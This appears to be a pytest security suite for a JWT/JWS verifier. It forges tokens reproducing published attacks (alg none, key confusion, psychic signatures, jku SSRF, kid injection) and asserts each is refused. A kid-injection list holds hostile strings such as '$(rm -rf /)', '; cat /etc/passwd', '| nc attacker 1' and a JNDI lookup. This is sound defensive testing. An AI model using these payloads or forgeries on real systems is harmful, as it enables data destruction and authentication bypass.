"""Attacks on the JWS layer: algorithms, keys named or carried by the header, signatures, shape.

One named test per attack; each docstring cites where the attack is described, and each asserts
the exact contract code (CONTRACT.md section 5) that ``TokenVerifier.verify`` refuses with.
Every forged token starts from a genuine one of the session's ``LocalSetup`` and changes one thing.
"""

from __future__ import annotations

import base64
import builtins
import hashlib
import hmac
import io
import json
import os
import socket
import sqlite3
import subprocess
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
    encode_dss_signature,
)
from cryptography.x509.oid import NameOID

from cardseal import jws
from cardseal._encoding import b64url_decode, b64url_encode
from cardseal.errors import CardsealError
from cardseal.keys.jwk import VerificationKey, VerificationKeySet, public_jwk
from cardseal.keys.signing import PemSigner, generate_private_key_pem
from cardseal.testing import LocalSetup
from cardseal.tokens import IssuerPolicy, TokenVerifier
from tests.security.conftest import Forge, T, refused

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def new_signer(alg: str = "RS256") -> PemSigner:
    pem = generate_private_key_pem(alg)
    return PemSigner(serialization.load_pem_private_key(pem, None), alg=alg)  # type: ignore[arg-type]


def hmac_signer(secret: bytes, alg: str = "HS256") -> Callable[[bytes], bytes]:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
    return lambda data: hmac.new(secret, data, digest[alg.upper()]).digest()


def with_signature(token: str, signature: bytes | str) -> str:
    head, payload, _ = token.split(".")
    encoded = signature if isinstance(signature, str) else b64url_encode(signature)
    return f"{head}.{payload}.{encoded}"


# -- algorithm: none, HMAC, substitution --------------------------------------------------------


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", "NoNe", "nONE", "none ", ""])
@pytest.mark.parametrize("signature", ["", "AAAA", "bm9uZQ"])
def test_alg_none_in_every_casing(forge: Forge, rs256: LocalSetup, alg: str,
                                  signature: str) -> None:
    """Unsecured JWS, ``alg: none`` in any casing, with or without a signature part.

    Source: RFC 8725 section 2.1 and 3.1; RFC 7518 section 3.6; Tim McLean, "Critical
    vulnerabilities in JSON Web Token libraries" (Auth0, 2015); CVE-2015-9235.
    """
    token = with_signature(forge.token(header={"alg": alg}), signature)
    refused(rs256.verifier, token, "token_algorithm_not_allowed")
    legacy_like = with_signature(forge.token(header={"alg": alg}, drop_header=("kid",)), signature)
    refused(rs256.verifier, legacy_like, "token_algorithm_not_allowed")


@pytest.mark.parametrize("alg", ["rs256", "Rs256", "RS256 ", " RS256", "RS-256", "RSA256",
                                 "PS256", "RS512", "ES256"])
def test_alg_outside_the_issuers_allow_list(forge: Forge, rs256: LocalSetup, alg: str) -> None:
    """An algorithm name the issuer did not allow, however close to one it did (case, spaces,
    another hash or padding of the same key type).

    Source: RFC 8725 section 3.1 ("each key MUST be used with exactly one algorithm").
    """
    refused(rs256.verifier, forge.token(header={"alg": alg}), "token_algorithm_not_allowed")


def test_key_pinned_to_its_algorithm_even_when_the_issuer_allows_more(rs256: LocalSetup) -> None:
    """RS256 key, PS256 signature by the same key: the issuer allows both, the key's JWK ``alg``
    pins RS256.

    Source: RFC 8725 section 3.1; RFC 7517 section 4.4 (``alg`` of a JWK).
    """
    policy = replace(rs256.policy, algorithms=frozenset({"RS256", "PS256"}))
    verifier = TokenVerifier(issuers=[policy], now=lambda: T)
    key = rs256.signer._key  # the issuer's own RSA private key, as if it signed PS256

    def pss(data: bytes) -> bytes:
        return key.sign(data, padding.PSS(padding.MGF1(hashes.SHA256()), 32),  # type: ignore[call-arg, union-attr]
                        hashes.SHA256())

    refused(verifier, Forge(rs256).token(header={"alg": "PS256"}, sign=pss),
            "token_algorithm_not_allowed")


def _public_key_forms(setup: LocalSetup) -> dict[str, bytes]:
    key = setup.signer.public_key
    forms = {
        "pem-spki": key.public_bytes(serialization.Encoding.PEM,
                                     serialization.PublicFormat.SubjectPublicKeyInfo),
        "der-spki": key.public_bytes(serialization.Encoding.DER,
                                     serialization.PublicFormat.SubjectPublicKeyInfo),
        "openssh": key.public_bytes(serialization.Encoding.OpenSSH,
                                    serialization.PublicFormat.OpenSSH),
        "jwk-json": json.dumps(setup.signer.verification_key().to_jwk()).encode(),
        "jwk-thumbprint-form": json.dumps(public_jwk(key), separators=(",", ":"),
                                          sort_keys=True).encode(),
        "jwks-json": json.dumps(VerificationKeySet([setup.signer.verification_key()])
                                .to_jwks()).encode(),
    }
    if setup.signer.alg == "RS256":
        forms["pem-pkcs1"] = key.public_bytes(serialization.Encoding.PEM,
                                              serialization.PublicFormat.PKCS1)
    return forms


@pytest.mark.parametrize("form", ["pem-spki", "pem-pkcs1", "der-spki", "openssh", "jwk-json",
                                  "jwk-thumbprint-form", "jwks-json"])
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512", "hs256"])
def test_rs_to_hs_key_confusion(rs256: LocalSetup, form: str, alg: str) -> None:
    """HS* token MACed with the issuer's RSA public key as the secret, in every form a verifier
    might hold it (PEM, PKCS#1, DER, OpenSSH, JWK, JWKS), with the genuine ``kid``.

    Source: CVE-2015-9235 (jsonwebtoken); CVE-2022-29217 / GHSA-ffqj-6fqr-9h24 (PyJWT, PEM and
    SSH forms); CVE-2026-48526 / GHSA-xgmm-8j9v-c9wx (PyJWT, a JWK as the HMAC secret); RFC 8725
    section 2.1.
    """
    secret = _public_key_forms(rs256)[form]
    token = Forge(rs256).token(header={"alg": alg}, sign=hmac_signer(secret, alg))
    refused(rs256.verifier, token, "token_algorithm_not_allowed")


@pytest.mark.parametrize("form", ["pem-spki", "der-spki", "openssh", "jwk-json"])
def test_es_to_hs_key_confusion(es256: LocalSetup, form: str) -> None:
    """The same confusion with an ES256 issuer's EC public key as the HMAC secret.

    Source: CVE-2022-29217 / GHSA-ffqj-6fqr-9h24; RFC 8725 section 2.1.
    """
    secret = _public_key_forms(es256)[form]
    token = Forge(es256).token(header={"alg": "HS256"}, sign=hmac_signer(secret))
    refused(es256.verifier, token, "token_algorithm_not_allowed")


def test_no_issuer_can_be_configured_for_hmac(rs256: LocalSetup) -> None:
    """The allow-list cannot even name HS256, so no configuration reopens key confusion.

    Source: RFC 8725 section 3.1 and 3.2; PyJWT refuses ``decode`` without ``algorithms``.
    """
    for alg in ("HS256", "none"):
        with pytest.raises(CardsealError) as excinfo:
            replace(rs256.policy, algorithms=frozenset({"RS256", alg}))
        assert excinfo.value.code == "config_invalid"


@pytest.mark.parametrize("kid", [True, False])
def test_hs256_with_an_empty_secret(forge: Forge, rs256: LocalSetup, kid: bool) -> None:
    """HS256 MACed with the empty key (what a verifier with an unset secret computes).

    Source: CVE-2019-20933 (InfluxDB: JWT with an empty shared secret); RFC 8725 section 2.2.
    """
    token = forge.token(header={"alg": "HS256"}, drop_header=() if kid else ("kid",),
                        sign=hmac_signer(b""))
    refused(rs256.verifier, token, "token_algorithm_not_allowed")


# -- signatures: empty, null, psychic -----------------------------------------------------------


@pytest.mark.parametrize("setup_name", ["rs256", "es256", "eddsa"])
@pytest.mark.parametrize("signature", ["empty", "one-zero-byte", "all-zero", "all-ff",
                                       "truncated", "extended"])
def test_null_or_empty_signature(request: pytest.FixtureRequest, setup_name: str,
                                 signature: str) -> None:
    """A genuine header and payload with no signature, a NUL signature, or one of the right
    length but all zero / all one bits, or the genuine one cut or extended by a byte.

    Source: CVE-2020-28042 (ServiceStack accepted an empty signature: a comparison loop over
    the attacker's length); RFC 8725 section 3.3.
    """
    setup: LocalSetup = request.getfixturevalue(setup_name)
    genuine = Forge(setup).genuine()
    good = b64url_decode(genuine.split(".")[2])
    raw = {"empty": b"", "one-zero-byte": b"\x00", "all-zero": bytes(len(good)),
           "all-ff": b"\xff" * len(good), "truncated": good[:-1],
           "extended": good + b"\x00"}[signature]
    refused(setup.verifier, with_signature(genuine, raw), "token_signature_invalid")


def _es256_signature(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


@pytest.mark.parametrize("values", ["r=0,s=0", "r=0", "s=0", "r=n,s=n", "r=n", "s=n",
                                    "der-encoded"])
def test_ecdsa_psychic_signatures(es256: LocalSetup, values: str) -> None:
    """ES256 with r = 0 and/or s = 0, or r, s equal to the group order n (zero mod n), or the
    genuine signature in ASN.1 DER instead of JOSE's fixed-length r || s.

    Source: CVE-2022-21449 ("psychic signatures", Java 15-18 accepted r = s = 0); RFC 7518
    section 3.4 (r || s, 64 bytes for ES256); Wycheproof ecdsa_secp256r1_sha256_p1363 vectors.
    """
    genuine = Forge(es256).genuine()
    good = b64url_decode(genuine.split(".")[2])
    r, s = int.from_bytes(good[:32], "big"), int.from_bytes(good[32:], "big")
    n = P256_ORDER
    if values == "der-encoded":
        raw = encode_dss_signature(r, s)
    else:
        raw = _es256_signature(
            *{"r=0,s=0": (0, 0), "r=0": (0, s), "s=0": (r, 0), "r=n,s=n": (n, n),
              "r=n": (n, s), "s=n": (r, n)}[values])
    refused(es256.verifier, with_signature(genuine, raw), "token_signature_invalid")


def test_signature_by_another_key_under_the_genuine_kid(forge: Forge, rs256: LocalSetup) -> None:
    """An attacker's own RS256 key signs, and the header names the issuer's ``kid``.

    Source: RFC 7515 section 5.2 (validation); RFC 8725 section 3.3.
    """
    refused(rs256.verifier, forge.token(sign=new_signer().sign), "token_signature_invalid")


# -- keys named or carried by the header --------------------------------------------------------


def _self_signed_certificate(signer: PemSigner) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "payment-service")])
    now = datetime.now(UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(signer.public_key).serial_number(x509.random_serial_number())
            .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=1))
            .sign(signer._key, hashes.SHA256()))  # type: ignore[arg-type]
    return cert.public_bytes(serialization.Encoding.DER)


@pytest.mark.parametrize(("setup_name", "carrier"), [("rs256", "jwk"), ("es256", "jwk"),
                                                     ("es256", "x5c")])
@pytest.mark.parametrize("kid", ["attacker", "genuine", "absent"])
def test_embedded_jwk_header(request: pytest.FixtureRequest, setup_name: str, carrier: str,
                             kid: str) -> None:
    """The header carries the attacker's public key (``jwk``) or self-signed certificate
    (``x5c``) and the token is signed by its private key.

    Source: CVE-2018-0114 (node-jose trusted an embedded ``jwk``); RFC 7515 sections 4.1.3 and
    4.1.6; RFC 8725 section 3.10.
    """
    setup: LocalSetup = request.getfixturevalue(setup_name)
    attacker = new_signer(setup.signer.alg)
    header: dict[str, Any] = (
        {"jwk": attacker.verification_key().to_jwk()} if carrier == "jwk"
        else {"x5c": [base64.b64encode(_self_signed_certificate(attacker)).decode()]}
    )
    if kid == "attacker":
        header["kid"] = attacker.kid
    token = Forge(setup).token(header=header, sign=attacker.sign,
                               drop_header=("kid",) if kid == "absent" else ())
    assert len(token.split(".")[0]) * 3 // 4 <= jws.MAX_HEADER_BYTES  # not refused for size
    expected = "token_signature_invalid" if kid == "genuine" else "token_key_unknown"
    refused(setup.verifier, token, expected)


def test_embedded_jwk_with_a_legacy_issuer(tmp_path_factory: pytest.TempPathFactory) -> None:
    """A legacy issuer (no ``kid`` needed: each configured key is tried) still never tries the
    embedded key.

    Source: CVE-2018-0114; RFC 8725 section 3.10.
    """
    legacy = LocalSetup.create(tmp_path_factory.mktemp("legacy"), legacy=True, now=lambda: T)
    attacker = new_signer()
    token = Forge(legacy).token(header={"jwk": attacker.verification_key().to_jwk()},
                                drop_header=("kid",), sign=attacker.sign)
    refused(legacy.verifier, token, "token_signature_invalid")


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections it was offered."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def connections(self) -> int:
        count = 0
        while True:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                return count
            conn.close()
            count += 1

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    try:
        yield lst
    finally:
        lst.close()


@contextmanager
def no_outbound(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Record (and refuse) every outbound connection attempt made inside the block."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> Any:
        attempts.append(args)
        raise OSError("outbound connections are not allowed in this test")

    with monkeypatch.context() as patch:
        patch.setattr(socket, "create_connection", refuse)
        patch.setattr(socket.socket, "connect", refuse)
        patch.setattr(socket.socket, "connect_ex", refuse)
        patch.setattr(urllib.request, "urlopen", refuse)
        yield attempts


@pytest.mark.parametrize("pointer", ["jku", "x5u"])
@pytest.mark.parametrize("signed_by", ["attacker", "issuer"])
def test_jku_x5u_spoofing_makes_no_request(forge: Forge, rs256: LocalSetup, listener: Listener,
                                           monkeypatch: pytest.MonkeyPatch, pointer: str,
                                           signed_by: str) -> None:
    """``jku`` / ``x5u`` point at a key set the attacker serves (here a live local listener);
    the verifier must neither fetch it nor use it.

    Source: RFC 8725 sections 2.9 and 3.10 (SSRF through ``jku``/``x5u``); RFC 7515 sections
    4.1.2 and 4.1.5.
    """
    attacker = new_signer()
    url = listener.url("/.well-known/jwks.json" if pointer == "jku" else "/cert.pem")
    header = {pointer: url, "kid": attacker.kid if signed_by == "attacker" else rs256.signer.kid}
    token = forge.token(header=header, sign=attacker.sign if signed_by == "attacker" else None)
    with no_outbound(monkeypatch) as attempts:
        if signed_by == "attacker":
            refused(rs256.verifier, token, "token_key_unknown")
        else:  # signed by the issuer's key: the pointer is ignored, nothing else changes
            assert rs256.verifier.verify(token).issuer.iss == rs256.policy.iss
    assert attempts == []
    assert listener.connections() == 0


@contextmanager
def no_side_effects(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Record every file open, process spawn and database connection made inside the block."""
    calls: list[object] = []

    def record(name: str, original: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(*args: object, **kwargs: object) -> Any:
            calls.append((name, args))
            return original(*args, **kwargs)
        return wrapper

    with monkeypatch.context() as patch:
        for target, name in ((builtins, "open"), (io, "open"), (os, "open"), (os, "system"),
                             (os, "popen"), (subprocess, "Popen"), (sqlite3, "connect")):
            patch.setattr(target, name, record(name, getattr(target, name)))
        yield calls


KID_INJECTIONS = [
    "../../dev/null", "../../../../../../etc/passwd", "/dev/null", "..\\..\\windows\\win.ini",
    "file:///dev/null", "' OR 1=1--", "x' UNION SELECT 'secret' --", "\"; DROP TABLE keys; --",
    "$(rm -rf /)", "`id`", "; cat /etc/passwd", "| nc attacker 1", "${jndi:ldap://x/a}",
    "{{7*7}}", "%00", "\x00", "kid\x00../../dev/null", "\u202e", "*", ".*",
]


@pytest.mark.parametrize("kid", KID_INJECTIONS)
def test_kid_injection_strings(forge: Forge, rs256: LocalSetup, monkeypatch: pytest.MonkeyPatch,
                               kid: str) -> None:
    """``kid`` as a path (traversal to /dev/null: a known, empty HMAC key), an SQL injection,
    a shell command, a template or JNDI lookup; the lookup is a dictionary get, nothing more.

    Source: RFC 8725 sections 2.9 and 3.10 (``kid`` used in SQL, LDAP or file lookups);
    CVE-2021-44228 (the JNDI string); PortSwigger Web Security Academy, "JWT authentication
    bypass via kid header path traversal".
    """
    for sign in (None, hmac_signer(b"")):
        alg = {} if sign is None else {"alg": "HS256"}
        token = forge.token(header={"kid": kid, **alg}, sign=sign)
        with no_side_effects(monkeypatch) as calls:
            error = refused(rs256.verifier, token,
                            "token_key_unknown" if sign is None else "token_algorithm_not_allowed")
        assert calls == []
        assert kid not in error.message


@pytest.mark.parametrize("length", [256, 900])
def test_very_long_kid(forge: Forge, rs256: LocalSetup, length: int) -> None:
    """A long ``kid`` within the 1 KiB header cap is an unknown key; one past the cap is a
    malformed token, refused before any lookup.

    Source: RFC 8725 section 3.10; joserfc ``max_header_length``; STYLE.md habit 5.
    """
    refused(rs256.verifier, forge.token(header={"kid": "k" * length}), "token_key_unknown")
    refused(rs256.verifier, forge.token(header={"kid": "k" * (jws.MAX_HEADER_BYTES + 1)}),
            "token_malformed")
    refused(rs256.verifier, forge.token(header={"kid": "k" * jws.MAX_TOKEN_BYTES}),
            "token_malformed")


@pytest.mark.parametrize("kid", [0, 1, -1, 1.5, True, False, [], ["KID"], {}, {"kid": "KID"},
                                 None])
def test_non_string_kid(forge: Forge, rs256: LocalSetup, kid: object) -> None:
    """``kid`` of another JSON type (a list holding the genuine kid, an object, a number,
    ``null``): never coerced to a string, never iterated.

    Source: RFC 7515 section 4.1.4 (``kid`` is a case-sensitive string); RFC 8725 section 3.10.
    """
    value: object = kid
    if kid == ["KID"]:
        value = [rs256.signer.kid]
    elif kid == {"kid": "KID"}:
        value = {"kid": rs256.signer.kid}
    refused(rs256.verifier, forge.token(header={"kid": value}), "token_key_unknown")


def test_kid_of_another_trusted_issuer(rs256: LocalSetup) -> None:
    """Issuer B signs a token that claims to come from issuer A, naming B's own key: keys are
    looked up in the claimed issuer's set only.

    Source: RFC 8725 sections 2.7 (substitution) and 3.8 (validate the issuer).
    """
    other = new_signer()
    b = IssuerPolicy(iss="other-service", audience=rs256.policy.audience,
                     keys=VerificationKeySet([other.verification_key()]),
                     allowed_kms_keys=rs256.policy.allowed_kms_keys)
    verifier = TokenVerifier(issuers=[rs256.policy, b], now=lambda: T)
    refused(verifier, Forge(rs256).token(header={"kid": other.kid}, sign=other.sign),
            "token_key_unknown")
    # The same token claiming B's iss verifies: the refusal above is the issuer binding.
    claims_b = Forge(rs256).token(header={"kid": other.kid}, claims={"iss": "other-service"},
                                  sign=other.sign)
    assert verifier.verify(claims_b).issuer.iss == "other-service"


# -- shape: JWE, JSON serialization, extensions, base64url ---------------------------------------


@pytest.mark.parametrize("shape", ["meta-data-jwe", "dir-jwe", "rsa-oaep-jwe", "four-parts",
                                   "six-parts", "two-parts", "one-part", "empty"])
def test_jwe_or_wrong_part_count_where_a_jws_is_expected(forge: Forge, rs256: LocalSetup,
                                                         shape: str) -> None:
    """A JWE compact serialization (five parts) offered as the token, e.g. the token's own
    ``meta_data``, or a JWE whose header mimics a signed token; or any other part count.

    Source: RFC 7516 section 9 (telling a JWS from a JWE by its parts); RFC 8725 section 2.8
    (cross-JWT confusion) and 3.11 (explicit typing).
    """
    head, claims = forge.parts()
    b64 = b64url_encode
    tokens = {
        "meta-data-jwe": claims["meta_data"],
        "dir-jwe": ".".join([b64(json.dumps({"alg": "dir", "enc": "A256GCM", **head}).encode()),
                             "", b64(bytes(12)), b64(json.dumps(claims).encode()),
                             b64(bytes(16))]),
        "rsa-oaep-jwe": ".".join([b64(json.dumps({"alg": "RSA-OAEP", "enc": "A256GCM",
                                                  "typ": "card+jwt"}).encode()),
                                  b64(bytes(256)), b64(bytes(12)), b64(b"x"), b64(bytes(16))]),
        "four-parts": forge.genuine() + ".AAAA",
        "six-parts": forge.genuine() + ".AAAA.AAAA.AAAA",
        "two-parts": forge.genuine().rsplit(".", 1)[0],
        "one-part": forge.genuine().split(".")[0],
        "empty": "",
    }
    refused(rs256.verifier, tokens[shape], "token_malformed")


def test_json_serialization_and_mixed_serialization(forge: Forge, rs256: LocalSetup) -> None:
    """The JWS JSON serialization, and python-jwt's mixed compact/JSON forgery (a payload the
    signature does not cover hidden next to a genuine one).

    Source: CVE-2022-39227 (python-jwt / jwcrypto parser differential); RFC 7515 section 7.2;
    Wycheproof json_web_signature "JsonSerialization" vectors.
    """
    head, payload, signature = forge.genuine().split(".")
    general = json.dumps({"payload": payload, "signatures": [
        {"protected": head, "signature": signature}]})
    flattened = json.dumps({"protected": head, "payload": payload, "signature": signature})
    _, claims = forge.parts()
    forged_payload = b64url_encode(json.dumps({**claims, "exp": T + 10**6}).encode())
    mixed = ('{"  ' + head + "." + forged_payload + '.":"","protected":"' + head
             + '","payload":"' + payload + '","signature":"' + signature + '"}')
    for token in (general, flattened, mixed):
        refused(rs256.verifier, token, "token_malformed")


@pytest.mark.parametrize("extension", [
    {"crit": ["exp"], "exp": T}, {"crit": ["x-unknown"], "x-unknown": 1}, {"crit": []},
    {"crit": "b64"}, {"crit": ["b64"], "b64": True},
])
def test_unknown_crit(forge: Forge, rs256: LocalSetup, extension: dict[str, Any]) -> None:
    """A ``crit`` header naming extensions cardseal does not implement (or malformed).

    Source: RFC 7515 section 4.1.11 ("MUST be understood ... or the JWS is invalid");
    GHSA-752w-5fwx-jx9f (PyJWT ignored ``crit``); CVE-2025-59420 (Authlib, same class).
    """
    refused(rs256.verifier, forge.token(header=extension), "token_malformed")


@pytest.mark.parametrize("with_crit", [True, False])
def test_b64_false_unencoded_payload(forge: Forge, rs256: LocalSetup, with_crit: bool) -> None:
    """An RFC 7797 token: ``b64: false``, the signing input holds the raw payload.

    Source: RFC 7797 sections 3 and 6 (``b64`` must be in ``crit``; a recipient that does not
    support it must reject); RFC 8725 section 2.6 (multiplicity of encodings).
    """
    head, claims = forge.parts()
    header = {**head, "b64": False, **({"crit": ["b64"]} if with_crit else {})}
    header_b64 = b64url_encode(json.dumps(header).encode())
    payload = json.dumps(claims).encode()
    signature = rs256.signer.sign(header_b64.encode() + b"." + payload)
    detached = f"{header_b64}..{b64url_encode(signature)}"
    refused(rs256.verifier, detached, "token_malformed")
    # The same, with the payload base64url-encoded in the token but signed unencoded.
    attached = f"{header_b64}.{b64url_encode(payload)}.{b64url_encode(signature)}"
    refused(rs256.verifier, attached, "token_malformed")


def _genuine_with(forge: Forge, predicate: Callable[[str], bool]) -> str:
    for _ in range(64):
        token = forge.genuine()
        if predicate(token):
            return token
    raise AssertionError("no genuine token of the wanted shape in 64 tries")


def _b64_variants(forge: Forge) -> dict[str, str]:
    token = _genuine_with(forge, lambda t: all(c in t.split(".")[2] for c in "-_")
                          and len(t.split(".")[2]) % 4 != 0)
    head, payload, sig = token.split(".")
    last = sig[-1]
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert alphabet.index(last) % 16 == 0  # 256 bytes: the last character has 4 unused bits
    noncanonical = alphabet[alphabet.index(last) | 1]
    return {
        "space-inside": f"{head}.{payload[:10]} {payload[10:]}.{sig}",
        "newline-inside": f"{head}.{payload}.{sig[:64]}\n{sig[64:]}",
        "crlf-inside": f"{head[:8]}\r\n{head[8:]}.{payload}.{sig}",
        "tab-inside": f"{head}.{payload}.{sig[:5]}\t{sig[5:]}",
        "newline-after-dot": f"{head}.\n{payload}.{sig}",
        "leading-space": f" {token}",
        "trailing-newline": f"{token}\n",
        "trailing-crlf": f"{token}\r\n",
        "padding-on-signature": f"{head}.{payload}.{sig}{'=' * (-len(sig) % 4)}",
        "padding-on-header": f"{head}==.{payload}.{sig}",
        "padding-on-payload": f"{head}.{payload}=.{sig}",
        "plus-slash-alphabet": f"{head}.{payload}.{sig.replace('-', '+').replace('_', '/')}",
        "standard-base64-padded": ".".join(
            p.replace("-", "+").replace("_", "/") + "=" * (-len(p) % 4) for p in (head, payload,
                                                                                   sig)),
        "non-canonical-last-char": f"{head}.{payload}.{sig[:-1]}{noncanonical}",
        "impossible-length": f"{head}.{payload}.{sig}A" if len(sig) % 4 == 0
        else f"{head}.{payload}.{sig[:len(sig) - len(sig) % 4]}A",
        "fullwidth-lookalike": f"{head}.{payload}.{sig[:-2]}\uff21{sig[-1]}",
        "percent-encoded": f"{head}.{payload}.{sig.replace('-', '%2D')}",
    }


VARIANTS = ["space-inside", "newline-inside", "crlf-inside", "tab-inside", "newline-after-dot",
            "leading-space", "trailing-newline", "trailing-crlf", "padding-on-signature",
            "padding-on-header", "padding-on-payload", "plus-slash-alphabet",
            "standard-base64-padded", "non-canonical-last-char", "impossible-length",
            "fullwidth-lookalike", "percent-encoded"]


@pytest.mark.parametrize("variant", VARIANTS)
def test_base64url_variants(forge: Forge, rs256: LocalSetup, variant: str) -> None:
    """Whitespace and line breaks, ``=`` padding, the ``+`` ``/`` alphabet, non-zero unused
    bits, an impossible length, Unicode look-alikes: only the one canonical unpadded base64url
    form of RFC 7515 is a token (and so one token has exactly one spelling).

    Source: RFC 7515 section 2 and appendix C (no padding, no line breaks or whitespace);
    RFC 4648 sections 3.3 and 3.5 (non-alphabet characters, canonical encoding); RFC 8725
    section 2.6; Wycheproof json_web_signature "ModifiedPadding" and "base64" vectors.
    """
    token = _b64_variants(forge)[variant]
    refused(rs256.verifier, token, "token_malformed")
    if token.isascii():
        refused(rs256.verifier, token.encode("ascii"), "token_malformed")


def test_non_ascii_token_bytes(forge: Forge, rs256: LocalSetup) -> None:
    """Token bytes that are not ASCII (Latin-1, UTF-8 look-alikes, a NUL).

    Source: RFC 7515 section 7.1 (compact serialization is ASCII); RFC 8725 section 3.7.
    """
    token = forge.genuine()
    for raw in (token.encode() + b"\xe9", b"\xef\xbb\xbf" + token.encode(),
                token.replace(".", "\u2024").encode(), token.encode() + b"\x00"):
        refused(rs256.verifier, raw, "token_malformed")


@pytest.mark.parametrize("where", ["claims", "header"])
def test_oversize_token(forge: Forge, rs256: LocalSetup, where: str) -> None:
    """A token over the 16 KiB cap, or a header over 1 KiB inside it, is refused before any
    JSON parse or key lookup, as text and as bytes.

    Source: STYLE.md habit 5 (``_MAX_TOKEN_BYTES``); joserfc ``max_header_length``; RFC 8725
    section 2.9 (resource exhaustion on the server).
    """
    if where == "claims":
        token = forge.token(claims={"pad": "x" * jws.MAX_TOKEN_BYTES})
        assert len(token) > jws.MAX_TOKEN_BYTES
    else:
        token = forge.token(header={"pad": "x" * jws.MAX_HEADER_BYTES})
        assert len(token) <= jws.MAX_TOKEN_BYTES
    refused(rs256.verifier, token, "token_malformed")
    refused(rs256.verifier, token.encode(), "token_malformed")
    huge = "A" * (16 * 1024 * 1024)  # 16 MiB: refused on length alone
    refused(rs256.verifier, huge, "token_malformed")


@pytest.mark.parametrize("typ", ["JWT", "jwt", "application/jwt", "at+jwt", "application/at+jwt",
                                 "secevent+jwt", "JOSE", "card+jwt ", "", 1, ["card+jwt"], None])
def test_cross_jwt_type_confusion(forge: Forge, rs256: LocalSetup, typ: object) -> None:
    """A token of another kind (an access token, a security event, a generic JWT) signed by a
    key the issuer also uses elsewhere; or no ``typ`` at all from a non-legacy issuer.

    Source: RFC 8725 sections 2.8 and 3.11 (explicit typing); RFC 9068 (``at+jwt``);
    CONTRACT.md section 5 ("A missing typ from a non-legacy issuer is token_type_invalid").
    """
    token = (forge.token(drop_header=("typ",)) if typ is None
             else forge.token(header={"typ": typ}))
    refused(rs256.verifier, token, "token_type_invalid")


@pytest.mark.parametrize("alg", [None, 256, ["RS256"], {"alg": "RS256"}, True])
def test_alg_missing_or_not_a_string(forge: Forge, rs256: LocalSetup, alg: object) -> None:
    """``alg`` absent, ``null``, or of another JSON type (never looked up in the allow-list).

    Source: RFC 7515 section 4.1.1 (``alg`` is a required case-sensitive string).
    """
    token = (forge.token(drop_header=("alg",)) if alg is None
             else forge.token(header={"alg": alg}))
    refused(rs256.verifier, token, "token_malformed")


def test_roca_and_short_rsa_keys_verify_nothing(rs256: LocalSetup) -> None:
    """An issuer whose configured RSA key is under 2048 bits verifies no token, even one its
    private key really signed.

    Source: RFC 7518 section 3.3 (RSA keys of 2048 bits or more); CVE-2017-15361 (ROCA; the
    fingerprint check is held to the Wycheproof ROCA key in tests/vectors).
    """
    weak = rsa.generate_private_key(public_exponent=65537, key_size=1024)  # noqa: S505 - the attack
    key = VerificationKey.from_public_key(weak.public_key(), alg="RS256")
    policy = replace(rs256.policy, keys=VerificationKeySet([key]))
    verifier = TokenVerifier(issuers=[policy], now=lambda: T)

    def sign(data: bytes) -> bytes:
        return weak.sign(data, padding.PKCS1v15(), hashes.SHA256())

    refused(verifier, Forge(rs256).token(header={"kid": key.kid}, sign=sign),
            "token_signature_invalid")


def test_es256_key_on_another_curve(es256: LocalSetup) -> None:
    """An ES256 header over a P-384 signature by a key the attacker controls, under the
    issuer's ``kid``: the curve is part of the algorithm.

    Source: RFC 7518 section 3.4; RFC 8725 section 3.4 (validate cryptographic inputs).
    """
    p384 = ec.generate_private_key(ec.SECP384R1())

    def sign(data: bytes) -> bytes:
        r, s = decode_dss_signature(p384.sign(data, ec.ECDSA(hashes.SHA256())))
        return r.to_bytes(48, "big") + s.to_bytes(48, "big")

    refused(es256.verifier, Forge(es256).token(sign=sign), "token_signature_invalid")
